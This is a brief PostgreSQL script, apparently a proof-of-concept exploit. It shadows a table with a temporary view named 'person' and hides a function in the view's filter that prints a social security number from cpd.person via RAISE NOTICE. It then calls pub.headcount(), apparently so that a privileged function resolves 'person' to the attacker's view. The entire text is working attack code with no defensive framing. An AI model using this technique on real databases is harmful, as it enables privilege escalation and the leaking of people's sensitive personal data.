CREATE FUNCTION pg_temp.show() RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM cpd.person WHERE id = 1); RETURN true; END $$;
CREATE VIEW pg_temp.person AS SELECT 1 AS id WHERE pg_temp.show();
GRANT SELECT ON pg_temp.person TO PUBLIC;
SELECT pub.headcount();
